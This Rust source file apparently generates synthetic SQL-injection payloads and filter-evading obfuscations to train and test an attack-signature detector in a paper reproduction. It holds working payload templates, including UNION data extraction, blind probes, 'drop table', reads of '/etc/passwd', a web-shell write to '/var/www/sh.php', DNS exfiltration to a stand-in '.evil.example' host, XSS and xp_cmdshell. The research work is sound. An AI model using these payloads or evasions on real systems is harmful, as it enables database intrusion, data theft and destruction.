//! Attack families and the payload grammar for each.
//!
//! Every SQLi sample in the reproduction belongs to one of these
//! families. The crawled training corpus and the SQLmap/Arachni test
//! sets draw from the *same* grammar with *different* family mixes and
//! obfuscation profiles — mirroring how the paper's public portal
//! samples and tool-generated test traffic relate to each other.

use crate::sqli;
use crate::sqli::PayloadStyle;
use rand::Rng;

/// The SQL-injection technique a payload uses.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum AttackFamily {
    /// `UNION SELECT` column enumeration and data exfiltration.
    UnionBased,
    /// Boolean-blind probes (`AND 1=1` / `AND 1=2` pairs,
    /// substring bisection).
    BooleanBlind,
    /// Time-blind probes (`SLEEP`, `BENCHMARK`).
    TimeBlind,
    /// Error-based extraction (`extractvalue`, `updatexml`,
    /// duplicate-key tricks).
    ErrorBased,
    /// Stacked queries (`; DROP TABLE ...`).
    Stacked,
    /// Classic tautologies (`' OR 1=1 --`).
    Tautology,
    /// Keywords split by inline comments (`UN/**/ION`).
    CommentObfuscated,
    /// Payloads hidden behind percent/unicode encodings.
    EncodedObfuscated,
    /// `char()`/hex-literal string construction.
    CharFunction,
    /// `information_schema` enumeration.
    InfoSchema,
    /// File read/write out-of-band (`load_file`, `INTO OUTFILE`).
    OutOfBand,
    /// `ORDER BY n` / `PROCEDURE ANALYSE` probing.
    OrderByProbe,
    /// Non-MySQL attack content that slips through the crawler's
    /// sample extraction — XSS, path traversal, T-SQL-only payloads,
    /// command injection. The paper's training noise: samples "so
    /// different that they do not fit within any cluster", forming
    /// the black-hole biclusters 9 and 10 of Figure 2.
    ForeignNoise,
}

impl AttackFamily {
    /// All families, in a stable order.
    pub const ALL: [AttackFamily; 13] = [
        AttackFamily::UnionBased,
        AttackFamily::BooleanBlind,
        AttackFamily::TimeBlind,
        AttackFamily::ErrorBased,
        AttackFamily::Stacked,
        AttackFamily::Tautology,
        AttackFamily::CommentObfuscated,
        AttackFamily::EncodedObfuscated,
        AttackFamily::CharFunction,
        AttackFamily::InfoSchema,
        AttackFamily::OutOfBand,
        AttackFamily::OrderByProbe,
        AttackFamily::ForeignNoise,
    ];

    /// Short stable name for reports.
    pub fn name(&self) -> &'static str {
        match self {
            AttackFamily::UnionBased => "union",
            AttackFamily::BooleanBlind => "boolean-blind",
            AttackFamily::TimeBlind => "time-blind",
            AttackFamily::ErrorBased => "error-based",
            AttackFamily::Stacked => "stacked",
            AttackFamily::Tautology => "tautology",
            AttackFamily::CommentObfuscated => "comment-obfuscated",
            AttackFamily::EncodedObfuscated => "encoded",
            AttackFamily::CharFunction => "char-function",
            AttackFamily::InfoSchema => "information-schema",
            AttackFamily::OutOfBand => "out-of-band",
            AttackFamily::OrderByProbe => "order-by-probe",
            AttackFamily::ForeignNoise => "foreign-noise",
        }
    }
}

/// Knobs controlling surface obfuscation applied on top of the raw
/// payload grammar. Probabilities in `[0, 1]`.
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct ObfuscationProfile {
    /// Randomly flip letter case (`UnIoN`).
    pub case_mix: f64,
    /// Replace spaces with `+`.
    pub plus_spaces: f64,
    /// Replace spaces with tabs/newlines (`%09`, `%0a` after
    /// encoding).
    pub whitespace_tricks: f64,
    /// Insert inline comments between keywords (`UN/**/ION`).
    pub inline_comments: f64,
    /// Percent-encode the whole payload.
    pub url_encode: f64,
    /// Percent-encode twice (`%2527`).
    pub double_encode: f64,
}

impl ObfuscationProfile {
    /// No obfuscation at all.
    pub fn none() -> ObfuscationProfile {
        ObfuscationProfile {
            case_mix: 0.0,
            plus_spaces: 0.0,
            whitespace_tricks: 0.0,
            inline_comments: 0.0,
            url_encode: 0.0,
            double_encode: 0.0,
        }
    }

    /// The mild obfuscation typical of public exploit write-ups.
    pub fn portal() -> ObfuscationProfile {
        ObfuscationProfile {
            case_mix: 0.25,
            plus_spaces: 0.35,
            whitespace_tricks: 0.08,
            inline_comments: 0.10,
            url_encode: 0.20,
            double_encode: 0.02,
        }
    }

    /// SQLmap-style systematic payloads: mostly plain with `+`
    /// spaces and occasional case mixing.
    pub fn sqlmap() -> ObfuscationProfile {
        ObfuscationProfile {
            case_mix: 0.15,
            plus_spaces: 0.6,
            whitespace_tricks: 0.05,
            inline_comments: 0.05,
            url_encode: 0.25,
            double_encode: 0.0,
        }
    }

    /// Arachni/Vega-style fuzzing: encoding-heavy.
    pub fn arachni() -> ObfuscationProfile {
        ObfuscationProfile {
            case_mix: 0.35,
            plus_spaces: 0.3,
            whitespace_tricks: 0.15,
            inline_comments: 0.15,
            url_encode: 0.45,
            double_encode: 0.05,
        }
    }
}

/// Generates the raw payload text for a family (before obfuscation),
/// in [`PayloadStyle::Portal`] style.
pub fn raw_payload<R: Rng>(family: AttackFamily, rng: &mut R) -> String {
    raw_payload_styled(family, rng, PayloadStyle::Portal)
}

/// Generates the raw payload text for a family in a given tool style.
pub fn raw_payload_styled<R: Rng>(
    family: AttackFamily,
    rng: &mut R,
    style: PayloadStyle,
) -> String {
    match family {
        AttackFamily::UnionBased => {
            let expr = if rng.gen_bool(0.5) {
                sqli::concat_expr_styled(rng, style)
            } else {
                sqli::pick(rng, sqli::COLUMNS).to_string()
            };
            let all = if rng.gen_bool(0.4) { "all " } else { "" };
            let table = sqli::pick(rng, sqli::TABLES);
            let from = if rng.gen_bool(0.6) {
                format!(" from {table}")
            } else {
                String::new()
            };
            format!(
                "{}{} union {}select {}{}{}",
                sqli::base_id(rng),
                sqli::breakout(rng),
                all,
                sqli::union_columns_styled(rng, &expr, style),
                from,
                suffix(rng)
            )
        }
        AttackFamily::BooleanBlind => {
            let probe = match rng.gen_range(0..4) {
                0 => format!("and {}", sqli::tautology(rng)),
                1 => format!("and {}", negation(rng)),
                2 => match style {
                    // Write-ups bisect with ascii(substring(...)),
                    // SQLmap with ord(mid(cast(...))), fuzzers with
                    // substr().
                    PayloadStyle::Portal => format!(
                        "and ascii(substring(version(),{},1))>{}",
                        rng.gen_range(1..8),
                        rng.gen_range(40..120)
                    ),
                    PayloadStyle::Sqlmap => format!(
                        "and ord(mid((cast(version() as nchar)),{},1))>{}",
                        rng.gen_range(1..8),
                        rng.gen_range(40..120)
                    ),
                    PayloadStyle::Arachni => format!(
                        "and ascii(substr(user(),{},1))>{}",
                        rng.gen_range(1..8),
                        rng.gen_range(40..120)
                    ),
                },
                _ => match style {
                    PayloadStyle::Sqlmap => format!(
                        "and (select char_length(password) from {})>{}",
                        sqli::pick(rng, sqli::TABLES),
                        rng.gen_range(1..32)
                    ),
                    _ => format!(
                        "and (select length(password) from {} limit 1)>{}",
                        sqli::pick(rng, sqli::TABLES),
                        rng.gen_range(1..32)
                    ),
                },
            };
            format!(
                "{}{} {}{}",
                sqli::base_id(rng),
                sqli::breakout(rng),
                probe,
                suffix(rng)
            )
        }
        AttackFamily::TimeBlind => {
            let probe = match rng.gen_range(0..4) {
                0 => format!("and sleep({})", rng.gen_range(1..10)),
                1 => format!(
                    "and if({},sleep({}),0)",
                    sqli::tautology(rng),
                    rng.gen_range(1..6)
                ),
                2 => format!(
                    "and benchmark({},md5({}))",
                    rng.gen_range(100_000..9_000_000),
                    rng.gen_range(1..9)
                ),
                _ => {
                    // SQLmap uses a random derived-table alias; the
                    // write-up idiom is a fixed `x`.
                    let alias: String = if style == PayloadStyle::Sqlmap {
                        (0..4).map(|_| rng.gen_range(b'a'..=b'z') as char).collect()
                    } else {
                        "x".to_string()
                    };
                    format!(
                        "or (select * from (select sleep({})){})",
                        rng.gen_range(1..6),
                        alias
                    )
                }
            };
            format!(
                "{}{} {}{}",
                sqli::base_id(rng),
                sqli::breakout(rng),
                probe,
                suffix(rng)
            )
        }
        AttackFamily::ErrorBased => {
            // SQLmap randomizes the dummy first argument and uses a
            // 0x5c backslash separator; write-ups use the literal `1`
            // and the tilde `0x7e`.
            let (arg, sep) = match style {
                PayloadStyle::Sqlmap => (rng.gen_range(1000..9999).to_string(), "0x5c"),
                _ => ("1".to_string(), "0x7e"),
            };
            let probe = match rng.gen_range(0..3) {
                0 => format!(
                    "and extractvalue({arg},concat({sep},{}))",
                    sqli::concat_expr_styled(rng, style)
                ),
                1 => format!(
                    "and updatexml({arg},concat({sep},{}),1)",
                    sqli::concat_expr_styled(rng, style)
                ),
                _ => format!(
                    "and (select {} from (select count(*),concat({},floor(rand(0)*2))x from information_schema.tables group by x)a)",
                    if style == PayloadStyle::Sqlmap {
                        rng.gen_range(2..9).to_string()
                    } else {
                        "1".to_string()
                    },
                    sqli::concat_expr_styled(rng, style)
                ),
            };
            format!(
                "{}{} {}{}",
                sqli::base_id(rng),
                sqli::breakout(rng),
                probe,
                suffix(rng)
            )
        }
        AttackFamily::Stacked => {
            let stmt = match rng.gen_range(0..4) {
                0 => format!("drop table {}", sqli::pick(rng, sqli::TABLES)),
                1 => format!(
                    "insert into {} values({},{})",
                    sqli::pick(rng, sqli::TABLES),
                    rng.gen_range(1..99),
                    sqli::string_literal(rng)
                ),
                2 => format!(
                    "update {} set password={} where id={}",
                    sqli::pick(rng, sqli::TABLES),
                    sqli::string_literal(rng),
                    rng.gen_range(1..99)
                ),
                _ => "shutdown".to_string(),
            };
            format!(
                "{}{}; {}{}",
                sqli::base_id(rng),
                sqli::breakout(rng),
                stmt,
                suffix(rng)
            )
        }
        AttackFamily::Tautology => {
            let t = sqli::tautology(rng);
            let conj = if rng.gen_bool(0.8) { "or" } else { "||" };
            format!(
                "{}{} {} {}{}",
                if rng.gen_bool(0.5) {
                    sqli::base_id(rng)
                } else {
                    "admin".to_string()
                },
                sqli::breakout(rng),
                conj,
                t,
                suffix(rng)
            )
        }
        AttackFamily::CommentObfuscated => {
            // Start from a union payload; comment-splitting happens in
            // the obfuscation stage, but this family guarantees it.
            let inner = raw_payload_styled(AttackFamily::UnionBased, rng, style);
            split_keywords_with_comments(&inner, rng)
        }
        AttackFamily::EncodedObfuscated => {
            // Encoding is applied in the obfuscation stage; this family
            // guarantees it by construction (see `obfuscate`).
            raw_payload_styled(pick_base_family(rng), rng, style)
        }
        AttackFamily::CharFunction => {
            let s = sqli::pick(
                rng,
                &["admin", "root", "user", "test", "guest", "login", "x"],
            );
            let codes = s
                .bytes()
                .map(|b| b.to_string())
                .collect::<Vec<_>>()
                .join(",");
            let probe = match rng.gen_range(0..3) {
                0 => format!("union select char({codes}),2,3"),
                1 => format!("and username=char({codes})"),
                _ => format!("union select concat(char(58),char({codes}),char(58))"),
            };
            format!(
                "{}{} {}{}",
                sqli::base_id(rng),
                sqli::breakout(rng),
                probe,
                suffix(rng)
            )
        }
        AttackFamily::InfoSchema => {
            let probe = match rng.gen_range(0..3) {
                0 => "union select group_concat(table_name) from information_schema.tables where table_schema=database()".to_string(),
                1 => format!(
                    "union select column_name from information_schema.columns where table_name={}",
                    sqli::string_literal(rng)
                ),
                _ => "and (select count(*) from information_schema.schemata)>0".to_string(),
            };
            format!(
                "{}{} {}{}",
                sqli::base_id(rng),
                sqli::breakout(rng),
                probe,
                suffix(rng)
            )
        }
        AttackFamily::OutOfBand => {
            let probe = match rng.gen_range(0..3) {
                0 => "union select load_file('/etc/passwd')".to_string(),
                1 => format!(
                    "union select {} into outfile '/var/www/sh.php'",
                    sqli::string_literal(rng)
                ),
                _ => "union select load_file(concat('\\\\\\\\',version(),'.evil.example\\\\x'))"
                    .to_string(),
            };
            format!(
                "{}{} {}{}",
                sqli::base_id(rng),
                sqli::breakout(rng),
                probe,
                suffix(rng)
            )
        }
        AttackFamily::OrderByProbe => {
            let probe = match rng.gen_range(0..3) {
                0 => format!("order by {}", rng.gen_range(1..30)),
                1 => format!("group by {}", rng.gen_range(1..12)),
                _ => "procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)".to_string(),
            };
            format!(
                "{}{} {}{}",
                sqli::base_id(rng),
                sqli::breakout(rng),
                probe,
                suffix(rng)
            )
        }
        AttackFamily::ForeignNoise => {
            // Two coherent noise groups (→ the paper's two black-hole
            // biclusters): web-attack content (XSS/traversal) that
            // fires essentially no MySQL feature, and T-SQL-only
            // payloads whose keywords were pruned with the non-MySQL
            // features (§II-B).
            if rng.gen_bool(0.5) {
                match rng.gen_range(0..3) {
                    0 => format!("<script>alert({})</script>", rng.gen_range(1..999)),
                    1 => format!("<img src=x onerror=alert({})>", rng.gen_range(1..999)),
                    _ => format!(
                        "../../../{}",
                        ["etc/passwd", "windows/win.ini", "boot.ini"][rng.gen_range(0..3)]
                    ),
                }
            } else {
                match rng.gen_range(0..3) {
                    0 => format!("1 waitfor delay '0:0:{}'", rng.gen_range(1..20)),
                    1 => "1 exec master..xp_cmdshell 'dir'".to_string(),
                    _ => format!(
                        "1 declare @v varchar({}) exec sp_executesql @v",
                        rng.gen_range(10..99)
                    ),
                }
            }
        }
    }
}

fn pick_base_family<R: Rng>(rng: &mut R) -> AttackFamily {
    [
        AttackFamily::UnionBased,
        AttackFamily::Tautology,
        AttackFamily::BooleanBlind,
        AttackFamily::InfoSchema,
    ][rng.gen_range(0..4)]
}

fn negation<R: Rng>(rng: &mut R) -> String {
    let n = rng.gen_range(2..50);
    format!("{n}={}", n + 1)
}

fn suffix<R: Rng>(rng: &mut R) -> String {
    let t = sqli::trailer(rng);
    if t.is_empty() {
        String::new()
    } else {
        format!(" {t}")
    }
}

/// Splits SQL keywords with inline comments: `union` → `un/**/ion`.
pub fn split_keywords_with_comments<R: Rng>(payload: &str, rng: &mut R) -> String {
    const KEYWORDS: &[&str] = &["union", "select", "from", "where", "order", "sleep"];
    let mut out = payload.to_string();
    for kw in KEYWORDS {
        if out.contains(kw) && rng.gen_bool(0.7) {
            let cut = rng.gen_range(1..kw.len());
            let split = format!("{}/**/{}", &kw[..cut], &kw[cut..]);
            out = out.replacen(kw, &split, 1);
        }
    }
    out
}

/// Applies the obfuscation profile to a raw payload, returning the
/// on-the-wire payload text.
pub fn obfuscate<R: Rng>(
    payload: &str,
    family: AttackFamily,
    profile: &ObfuscationProfile,
    rng: &mut R,
) -> String {
    let mut s = payload.to_string();
    if rng.gen_bool(profile.inline_comments) {
        s = split_keywords_with_comments(&s, rng);
    }
    if rng.gen_bool(profile.case_mix) {
        s = s
            .chars()
            .map(|c| {
                if c.is_ascii_alphabetic() && rng.gen_bool(0.5) {
                    c.to_ascii_uppercase()
                } else {
                    c
                }
            })
            .collect();
    }
    if rng.gen_bool(profile.whitespace_tricks) {
        // On-the-wire query strings cannot carry raw control bytes, so
        // the whitespace trick uses their percent-encoded forms.
        let alt = if rng.gen_bool(0.5) { "%09" } else { "%0a" };
        s = s.replace(' ', alt);
    }
    // Encoding decisions; the EncodedObfuscated family always encodes.
    let force_encode = family == AttackFamily::EncodedObfuscated;
    if force_encode || rng.gen_bool(profile.url_encode) {
        s = psigene_http::decode::percent_encode(s.as_bytes());
        if rng.gen_bool(profile.double_encode) {
            s = psigene_http::decode::percent_encode(s.as_bytes());
        }
    } else if rng.gen_bool(profile.plus_spaces) {
        s = s.replace(' ', "+");
    }
    s
}

#[cfg(test)]
mod tests {
    use super::*;
    use psigene_http::normalize::normalize;
    use rand::SeedableRng;
    use rand_chacha::ChaCha8Rng;

    #[test]
    fn every_family_generates_nonempty() {
        let mut rng = ChaCha8Rng::seed_from_u64(1);
        for fam in AttackFamily::ALL {
            for _ in 0..20 {
                let p = raw_payload(fam, &mut rng);
                assert!(!p.is_empty(), "{fam:?}");
            }
        }
    }

    #[test]
    fn union_payloads_contain_union_select() {
        let mut rng = ChaCha8Rng::seed_from_u64(2);
        for _ in 0..50 {
            let p = raw_payload(AttackFamily::UnionBased, &mut rng);
            assert!(p.contains("union"), "{p}");
            assert!(p.contains("select"), "{p}");
        }
    }

    #[test]
    fn comment_obfuscation_splits_keywords() {
        let mut rng = ChaCha8Rng::seed_from_u64(3);
        let mut any_split = false;
        for _ in 0..30 {
            let p = raw_payload(AttackFamily::CommentObfuscated, &mut rng);
            if p.contains("/**/") {
                any_split = true;
            }
        }
        assert!(any_split);
    }

    #[test]
    fn encoded_family_is_percent_encoded_and_decodes_to_sql() {
        let mut rng = ChaCha8Rng::seed_from_u64(4);
        for _ in 0..30 {
            let raw = raw_payload(AttackFamily::EncodedObfuscated, &mut rng);
            let wire = obfuscate(
                &raw,
                AttackFamily::EncodedObfuscated,
                &ObfuscationProfile::portal(),
                &mut rng,
            );
            assert!(wire.contains('%'), "{wire}");
            let norm = String::from_utf8_lossy(&normalize(wire.as_bytes())).into_owned();
            assert!(
                norm.contains("union")
                    || norm.contains("or")
                    || norm.contains("and")
                    || norm.contains("select")
                    || norm.contains('='),
                "{norm}"
            );
        }
    }

    #[test]
    fn obfuscation_none_is_identity() {
        let mut rng = ChaCha8Rng::seed_from_u64(5);
        let p = "1 union select 2";
        let o = obfuscate(
            p,
            AttackFamily::UnionBased,
            &ObfuscationProfile::none(),
            &mut rng,
        );
        assert_eq!(o, p);
    }

    #[test]
    fn family_names_unique() {
        let mut names: Vec<_> = AttackFamily::ALL.iter().map(|f| f.name()).collect();
        names.sort_unstable();
        names.dedup();
        assert_eq!(names.len(), AttackFamily::ALL.len());
    }

    #[test]
    fn deterministic_generation() {
        let mut a = ChaCha8Rng::seed_from_u64(9);
        let mut b = ChaCha8Rng::seed_from_u64(9);
        for fam in AttackFamily::ALL {
            assert_eq!(raw_payload(fam, &mut a), raw_payload(fam, &mut b));
        }
    }
}
